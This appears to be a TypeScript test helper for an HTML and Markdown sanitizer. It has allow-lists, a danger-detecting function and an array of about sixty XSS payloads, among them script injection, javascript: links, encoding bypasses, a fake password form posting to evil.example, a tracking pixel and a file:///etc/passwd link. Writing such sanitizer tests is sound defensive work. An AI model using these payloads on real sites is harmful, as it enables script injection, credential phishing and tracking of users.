const SAFE_TAGS = new Set(
  'a b blockquote br button code del div em h3 h4 h5 h6 hr i kbd li ol p path pre s span strong sub sup svg table tbody td th thead tr ul'.split(
    ' ',
  ),
)
const SAFE_ATTRIBUTES = new Set(
  'align aria-hidden aria-label class d dir focusable href rel role start tabindex target title type viewbox'.split(
    ' ',
  ),
)

/** What in `root` could run, load, send, style or navigate elsewhere than to the web. */
export function findDangers(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase()
    const attributes = element.getAttributeNames().map((name) => name.toLowerCase())
    const href = element.getAttribute('href')
    const dir = element.getAttribute('dir')
    return [
      ...(SAFE_TAGS.has(tag) ? [] : [`<${tag}>`]),
      ...attributes.filter((name) => !SAFE_ATTRIBUTES.has(name)).map((name) => `${tag}[${name}]`),
      ...(dir === null || dir === 'auto' || dir === 'ltr' ? [] : [`dir ${dir}`]),
      ...(href === null || /^(?:https?:\/\/|mailto:)/i.test(href) ? [] : [`href ${href}`]),
    ]
  })
}

/** Markdown and HTML that tries to be more than text. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<div class="banner" id="app">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<br onmouseover=alert(1)>',
  '<sub style="color:red">x</sub>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://ok.example/1)',
  '[x](//evil.example)',
  '[x](/v1/sessions)',
  '[x](http:/v1/sessions)',
  '[x](https:v1/sessions)',
  '<http:/v1/sessions>',
  '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![x"onerror="alert(1)](https://evil.example/pixel.png)',
  '![a][1]\n\n[1]: javascript:alert(1)',
  '[a][1]\n\n[1]: javascript:alert(1)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '`<img src=x onerror=alert(1)>`',
  '- [x] <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <svg/onload=alert(1)>',
  '> <script>alert(1)</script>',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '<<script>script>alert(1)<</script>/script>',
  '<a\nhref="javascript:alert(1)"\n>x</a>',
  'https://ok.example/"onmouseover="alert(1)',
  '<x-parley onclick=alert(1)>',
]
